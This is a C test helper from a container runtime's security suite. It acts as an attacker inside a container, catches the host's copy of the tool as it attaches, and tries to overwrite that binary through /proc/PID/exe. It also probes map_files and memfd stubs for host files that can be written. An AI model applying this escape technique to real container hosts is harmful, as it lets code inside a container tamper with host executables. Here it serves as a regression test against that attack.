/* tests/helpers/hkexegrab.c - the attacker of tests/security/host-exe.sh
 * (issue 16, item 4), run inside a container as its root while the host
 * attaches to it with a copy of hako whose device and inode it is given.
 * It watches /proc for every new pid and, for each:
 *   - keeps an O_PATH of /proc/PID/exe; when that is the copy of hako
 *     (caught_target), kills the process, waits, and reopens the O_PATH
 *     for writing through /proc/self/fd/N, retrying while the host's
 *     process still runs it ("Text file busy"), then overwrites 16 bytes
 *     of it (target_written) - the copy's checksum tells;
 *   - any other exe that is not the same file inside the container: a
 *     memfd (hako's sealed stub) must refuse a write of its own first byte
 *     back (memfd_written otherwise); anything else opening for writing
 *     is host_exe_writable;
 *   - every entry of /proc/PID/map_files (a privileged root can open
 *     them: CAP_SYS_ADMIN over the host) that is not a file of the
 *     container is map_host (with its path); opening one for writing is
 *     map_writable (never written); a memfd as above.
 * Runs for SECONDS or until STOP exists, then prints counters and the
 * finding lines to OUT.
 *
 *   hkexegrab SECONDS STOP OUT TARGET_DEV TARGET_INO */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 65536

static unsigned char seen[MAX_SEEN];
static unsigned long n_new, n_target, n_memfd, n_maps, n_map_host, n_map_denied;
static dev_t t_dev;
static ino_t t_ino;
static int target_fd = -1;
static FILE *out;

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
	nanosleep(&ts, NULL);
}

/* The link text of fd, and whether it is the same file at that path here. */
static int in_container(int fd, char *target, size_t size)
{
	char link[64];
	struct stat st, here;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	ssize_t len = readlink(link, target, size - 1);
	if (len < 0 || fstat(fd, &st) < 0)
		return 1;
	target[len] = '\0';
	return target[0] == '/' && stat(target, &here) == 0 && here.st_dev == st.st_dev &&
	       here.st_ino == st.st_ino;
}

/* Opens an O_PATH fd again through /proc/self/fd/N. */
static int reopen(int fd, int flags)
{
	char link[64];
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	return open(link, flags | O_CLOEXEC);
}

/* A memfd must refuse a write, even of its own first byte back. */
static void try_memfd(int pid, int fd, const char *what)
{
	unsigned char b;
	n_memfd++;
	int rw = reopen(fd, O_RDWR);
	if (rw < 0)
		return;
	if (pread(rw, &b, 1, 0) == 1 && pwrite(rw, &b, 1, 0) == 1)
		fprintf(out, "memfd_written pid=%d %s\n", pid, what);
	close(rw);
}

/* Something of the host: opening it for writing is the finding; never
 * written. */
static void try_host(int pid, int fd, const char *key, const char *path)
{
	int w = reopen(fd, O_RDWR);
	if (w >= 0) {
		fprintf(out, "%s pid=%d -> %s\n", key, pid, path);
		close(w);
	}
}

static void check_maps(int pid)
{
	char dir[64], path[600], target[4096];
	snprintf(dir, sizeof(dir), "/proc/%d/map_files", pid);
	DIR *d = opendir(dir);
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		n_maps++;
		if (fd < 0) {
			n_map_denied++;
			continue;
		}
		if (!in_container(fd, target, sizeof(target))) {
			if (strncmp(target, "/memfd:", 7) == 0) {
				try_memfd(pid, fd, target);
			} else {
				n_map_host++;
				fprintf(out, "map_host pid=%d -> %s\n", pid, target);
				try_host(pid, fd, "map_writable", target);
			}
		}
		close(fd);
	}
	if (d)
		closedir(d);
}

static void probe(int pid)
{
	char path[64], target[4096];
	struct stat st;
	n_new++;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	check_maps(pid);
	if (fd < 0 || fstat(fd, &st) < 0) {
		if (fd >= 0)
			close(fd);
		return;
	}
	if (st.st_dev == t_dev && st.st_ino == t_ino) {
		n_target++;
		fprintf(out, "caught_target pid=%d\n", pid);
		kill(pid, SIGKILL);
		if (target_fd < 0)
			target_fd = fd;
		else
			close(fd);
		return;
	}
	if (!in_container(fd, target, sizeof(target))) {
		if (strncmp(target, "/memfd:", 7) == 0)
			try_memfd(pid, fd, target);
		else
			try_host(pid, fd, "host_exe_writable", target);
	}
	close(fd);
}

static void scan(int self)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid <= 1 || pid == self || pid >= MAX_SEEN || seen[pid])
			continue;
		seen[pid] = 1;
		probe(pid);
	}
	if (d)
		closedir(d);
}

/* The copy of hako, reopened for writing once nothing runs it. */
static void write_target(void)
{
	int w = -1;
	for (int i = 0; i < 200 && w < 0; i++) {
		w = reopen(target_fd, O_WRONLY);
		if (w < 0 && errno != ETXTBSY)
			break;
		if (w < 0)
			sleep_ms(50);
	}
	if (w < 0) {
		fprintf(out, "target_reopen_refused errno=%d\n", errno);
		return;
	}
	if (pwrite(w, "hkexegrab-was-he", 16, 0) == 16)
		fprintf(out, "target_written\n");
	close(w);
}

int main(int argc, char **argv)
{
	if (argc != 6)
		return 2;
	out = fopen(argv[3], "we");
	if (!out)
		return 2;
	setvbuf(out, NULL, _IOLBF, 0);
	t_dev = (dev_t)strtoull(argv[4], NULL, 10);
	t_ino = (ino_t)strtoull(argv[5], NULL, 10);
	int self = getpid();
	memset(seen, 0, sizeof(seen));
	scan(self); /* what runs already is not an attach */
	n_new = n_memfd = n_maps = n_map_host = n_map_denied = 0;
	fprintf(out, "ready\n");
	time_t end = time(NULL) + atoi(argv[1]);
	while (time(NULL) < end && access(argv[2], F_OK) != 0)
		scan(self);
	if (target_fd >= 0)
		write_target();
	fprintf(out, "new=%lu caught_target=%lu memfd=%lu maps=%lu map_host=%lu map_denied=%lu\n",
		n_new, n_target, n_memfd, n_maps, n_map_host, n_map_denied);
	fclose(out);
	return 0;
}
